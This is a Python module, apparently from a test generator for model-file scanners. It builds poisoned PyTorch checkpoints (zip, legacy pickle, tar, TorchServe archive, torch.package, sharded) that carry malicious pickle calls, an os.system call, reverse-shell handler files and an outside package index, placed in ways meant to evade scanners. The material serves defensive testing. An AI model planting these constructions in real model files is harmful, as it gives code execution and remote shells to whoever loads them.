"""PyTorch's files: the zip, the old stream of pickles, the older tar, and archives around them."""

import struct

from ..recipe import add, kind
from ..writers.opcodes import *  # noqa: F403
from ..writers.rawzip import Member, archive
from .payloads import pickle, reverse_shell, shell
from .tars import entry, tar

MAGIC = 0x1950A86A20F9469CFC6C


def long1(value: int) -> bytes:
    data = value.to_bytes((value.bit_length() + 8) // 8, "little")
    return b"\x8a" + bytes([len(data)]) + data


def state(r, extra: bytes = b"") -> bytes:
    """A state dictionary of one tensor, as torch.save has it; `extra` leaves one more value to set."""
    storage = MARK + binunicode("storage") + named("torch", "FloatStorage") + binunicode("0") + binunicode("cpu") + binint(4) + TUPLE + b"Q"
    tensor = named("torch._utils", "_rebuild_tensor_v2") + MARK + storage + b"K\0" + b"K\x04" + TUPLE1 + b"K\x01" + TUPLE1 + b"\x89"
    tensor += named("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE
    body = EMPTY_DICT + MARK + binunicode(r.word()) + tensor
    if extra:
        body += binunicode(r.word()) + extra
    return whole(body + SETITEMS)


def zipped(r, data: bytes, *more: Member) -> dict:
    name = r.word()
    members = [Member(f"{name}/data.pkl", data), Member(f"{name}/byteorder", b"little"), Member(f"{name}/data/0", r.bytes(16))]
    members += [Member(f"{name}/{m.name}", m.data) for m in more] + [Member(f"{name}/version", b"3\n")]
    return {name + r.choice([".pt", ".pth", ".bin", ".ckpt", ""]): archive(members)}


def legacy(r, place: int) -> dict:
    """
    Magic number, protocol, platform, objects, keys; then the storages.

    :param place: which of the five pickles does it
    """
    system = EMPTY_DICT + MARK + binunicode("protocol_version") + binint(1001) + binunicode("little_endian") + b"\x88" + SETITEMS
    parts = [whole(long1(MAGIC)), whole(binint(1001)), whole(system), state(r), whole(EMPTY_LIST + binunicode("0") + APPEND)]
    bad = call(*r.call())
    parts[place] = parts[place][:-1] + bad + POP + STOP if place != 3 else state(r, bad)
    return {r.word() + r.choice([".pt", ".pth", ".bin"]): b"".join(parts) + struct.pack("<Q", 4) + r.bytes(16)}


@kind("torch/zip")
def in_zip(r):
    return zipped(r, state(r, call(*r.call())))


@kind("torch/zip-only-a-name")
def only_a_name(r):
    module, name, _ = r.call()
    return zipped(r, state(r, named(module, name)))


@kind("torch/zip-whole-path")
def whole_path(r):
    return zipped(r, state(r, call("torch.serialization", "os.system", ["true"], 4)))


@kind("torch/zip-second-pickle")
def second(r):
    return zipped(r, state(r), Member(r.word() + r.choice([".pkl", ".dat", ""]), pickle(r, 4)))


@kind("torch/zip-pickle-among-the-storages")
def among(r):
    return zipped(r, state(r), Member("data/1", pickle(r)))


@kind("torch/zip-broken-pickle")
def broken(r):
    return zipped(r, proto(2) + call(*r.call()) + b"\xff\xff")


@kind("torch/zip-flagged-as-encrypted")
def flagged(r):
    name = r.word()
    return {name + ".pt": archive([Member(f"{name}/data.pkl", state(r, call(*r.call())), flags=1), Member(f"{name}/version", b"3\n")])}


@kind("torch/zip-wrong-checksum")
def wrong(r):
    name = r.word()
    return {name + ".pt": archive([Member(f"{name}/data.pkl", state(r, call(*r.call())), crc=7), Member(f"{name}/version", b"3\n")])}


for label, place in (("magic", 0), ("protocol", 1), ("platform", 2), ("objects", 3), ("keys", 4)):

    def old(r, place=place):
        return legacy(r, place)

    add(f"torch/legacy-in-the-{label}", "threat", old)


@kind("torch/legacy-magic-by-a-call")
def magic_call(r):
    """The magic number is what a call returns: readers that look for the number see another format."""
    number = named("builtins", "eval") + binunicode(str(MAGIC)) + TUPLE1 + REDUCE
    return {r.word() + ".pt": whole(number) + whole(binint(1001)) + whole(EMPTY_DICT) + state(r) + whole(EMPTY_LIST)}


@kind("torch/legacy-behind-the-storages")
def behind(r):
    files = legacy(r, 3)
    name = next(iter(files))
    honest_one = b"".join([whole(long1(MAGIC)), whole(binint(1001)), whole(EMPTY_DICT), state(r), whole(EMPTY_LIST + binunicode("0") + APPEND)])
    return {name: honest_one + struct.pack("<Q", 4) + r.bytes(16) + pickle(r)}


@kind("torch/tar")
def in_tar(r):
    keys = [entry("sys_info", whole(EMPTY_DICT)), entry("pickle", state(r, call(*r.call()))), entry("storages", whole(binint(0))), entry("tensors", whole(binint(0)))]
    return {r.word() + ".pt": tar(keys)}


@kind("torch/tar-in-the-storages")
def in_tar_storages(r):
    keys = [entry("sys_info", whole(EMPTY_DICT)), entry("pickle", state(r)), entry("storages", pickle(r)), entry("tensors", whole(binint(0)))]
    return {r.word() + ".pt": tar(keys)}


@kind("torch/serve-archive")
def mar(r):
    manifest = b'{"runtime": "python", "model": {"handler": "h.py", "serializedFile": "m.pt"}}'
    inner = next(iter(zipped(r, state(r, call(*r.call()))).values()))
    return {r.word() + ".mar": archive([Member("MAR-INF/MANIFEST.json", manifest), Member("m.pt", inner), Member("h.py", reverse_shell(r))])}


@kind("torch/serve-archive-with-requirements", "policy")
def mar_requirements(r):
    manifest = b'{"runtime": "python", "model": {"handler": "h.py", "requirementsFile": "requirements.txt"}}'
    members = [Member("MAR-INF/MANIFEST.json", manifest), Member("h.py", shell(r)), Member("requirements.txt", b"--index-url http://x.invalid/simple\nnumpy\n")]
    return {r.word() + ".mar": archive(members)}


@kind("torch/package")
def package(r):
    """torch.package carries the source of modules, which importing runs."""
    name = r.word()
    members = [Member(f"{name}/.data/extern_modules", b"os\nsys\n"), Member(f"{name}/m.py", reverse_shell(r)), Member(f"{name}/model/m.pkl", pickle(r))]
    return {name + ".pt": archive(members)}


@kind("torch/checkpoint-sharded")
def sharded(r):
    good = next(iter(zipped(r, state(r)).values()))
    bad = next(iter(zipped(r, state(r, call(*r.call()))).values()))
    index = b'{"metadata": {"total_size": 32}, "weight_map": {"a": "pytorch_model-00001-of-00002.bin", "b": "pytorch_model-00002-of-00002.bin"}}'
    names = ["pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin"]
    return {"pytorch_model.bin.index.json": index, **dict(zip(names, r.choice([(good, bad), (bad, good)])))}
